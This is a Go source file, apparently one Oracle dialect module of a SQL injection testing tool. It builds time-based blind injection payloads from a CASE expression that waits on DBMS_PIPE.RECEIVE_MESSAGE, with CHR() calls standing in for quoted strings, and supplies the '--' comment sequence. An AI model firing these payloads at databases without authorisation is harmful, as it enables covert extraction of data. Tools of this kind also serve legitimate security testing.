package dbms

import "fmt"

// Oracle implements DBMS for Oracle Database.
type Oracle struct{}

// Name returns the canonical DBMS name.
func (o *Oracle) Name() string { return "Oracle" }

// SleepFunction uses DBMS_PIPE.RECEIVE_MESSAGE, which waits for the
// timeout on an empty pipe and is granted to PUBLIC on most installs.
func (o *Oracle) SleepFunction(seconds int) string {
	return fmt.Sprintf("DBMS_PIPE.RECEIVE_MESSAGE(CHR(113)||CHR(115),%d)", seconds)
}

// DelayClause wraps the pipe wait in a CASE.
func (o *Oracle) DelayClause(condition string, seconds int) string {
	return fmt.Sprintf("AND 1=(CASE WHEN (%s) THEN %s ELSE 1 END)", condition, o.SleepFunction(seconds))
}

// QuoteString returns a single-quoted literal.
func (o *Oracle) QuoteString(s string) string { return quoteSingle(s) }

// CommentSequence returns "--".
func (o *Oracle) CommentSequence() string { return "--" }
